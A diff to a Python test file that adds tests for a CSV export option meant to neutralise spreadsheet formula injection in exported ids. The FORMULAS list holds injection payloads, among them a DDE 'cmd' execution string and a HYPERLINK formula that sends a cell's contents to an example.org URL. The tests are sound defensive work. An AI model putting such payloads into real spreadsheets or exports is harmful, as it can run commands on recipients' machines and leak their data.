@@ -10,6 +10,8 @@ from io import StringIO
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from tallies.core.errors import InvalidInput
 from tallies.core.spans import cut, find_span, parse_span
@@ -19,6 +21,7 @@ from tallies.favorites.tally import FAVORITES
 from tallies.operate.export import (
     Line,
     columns,
+    defused,
     lines,
     span_lines,
     write_csv,
@@ -130,6 +133,51 @@ def test_csv_holds_any_id() -> None:
     ]
 
 
+FORMULAS = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.org/?"&A1,"more")',
+    " =1+1",
+    "\ufeff=1+1",
+    "＝1+1",
+    "fish;=1+1",
+    'fish";=1+1',
+    "fish, -chips",
+    "'=1+1",
+]
+"""Ids that a spreadsheet would take for formulas, if only where it splits cells at semicolons."""
+HARMLESS = ["noodles", "a=b", "fish'n'chips", "1-2", "ann@example.org", "fish; chips", "日本=1", ""]
+
+
+def read_as_spreadsheet(text: str, delimiter: str) -> list[list[str]]:
+    return list(csv.reader(StringIO(text, newline=""), delimiter=delimiter))
+
+
+def test_no_cell_for_a_spreadsheet_is_a_formula() -> None:
+    """Wherever it splits the lines: at commas, or as in half of the world at semicolons."""
+    out = StringIO(newline="")
+    found: list[Line] = [(id_, "all", "all", None, -3) for id_ in [*FORMULAS, *HARMLESS]]
+    list(write_csv(FAVORITES, found, out, for_spreadsheets=True))
+    text = out.getvalue()
+    assert text.startswith("\ufeffrestaurant_id,kind")
+    rows = read_as_spreadsheet(text.removeprefix("\ufeff"), ",")[1:]
+    assert [row[0] for row in rows[len(FORMULAS) :]] == HARMLESS
+    assert all(row[0] != id_ for row, id_ in zip(rows, FORMULAS, strict=False))
+    assert {row[-1] for row in rows} == {"-3"}  # a number stays one
+    cells = [cell for row in rows for cell in row[:-1]]
+    cells += [cell for row in read_as_spreadsheet(text, ";") for cell in row]
+    for cell in cells:
+        assert cell.strip('\ufeff "')[:1] not in {*"=+-@＝＋－＠"}
+
+
+@given(st.text("=+-@'; ,\"a\ufeff＝", max_size=8), st.text("=+-@'; ,\"a\ufeff＝", max_size=8))
+def test_texts_that_differ_stay_different_in_a_spreadsheet(one: str, other: str) -> None:
+    assert (defused(one) == defused(other)) is (one == other)
+
+
 @pytest.mark.parametrize("count", [0, 1, 25_000])
 def test_parquet_holds_what_went_in(tmp_path: Path, count: int) -> None:
     parquet = pytest.importorskip("pyarrow.parquet")
@@ -183,6 +231,24 @@ def test_the_command(loaded: str, tmp_path: Path) -> None:
     path = tmp_path / "t.parquet"
     assert tallies("export", "-o", path, store=loaded) == (0, "", f"7 rows in {path}\n")
     assert pytest.importorskip("pyarrow.parquet").read_table(path).num_rows == 7
+
+
+def test_the_command_for_spreadsheets(tmp_path: Path) -> None:
+    url = f"sqlite:///{tmp_path}/s.db"
+    log = tmp_path / "log.csv"
+    log.write_text('user_id,restaurant_id,created_at\nann,"=1+1,☕",2025-11-22T12:00:00Z\n')
+    assert tallies("load", log, store=url).code == 0
+    exact = tallies("export", "all", store=url)
+    assert exact.out.splitlines()[1] == '"=1+1,☕",all,all,,1'
+    safe = tallies("export", "all", "--for-spreadsheets", store=url)
+    assert safe.out.splitlines()[1] == '"\'=1+1,☕",all,all,,1'
+    path = tmp_path / "t.csv"
+    assert tallies("export", "all", "--for-spreadsheets", "-o", path, store=url).code == 0
+    assert path.read_bytes() == safe.out.encode()
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
+    refused = tallies("export", "--for-spreadsheets", "-o", tmp_path / "t.parquet", store=url)
+    assert (refused.code, refused.err.count("\n")) == (2, 1)
+    assert "about CSV" in refused.err
 
 
 def test_ids_are_utf8_whatever_the_terminal_is(tmp_path: Path) -> None:
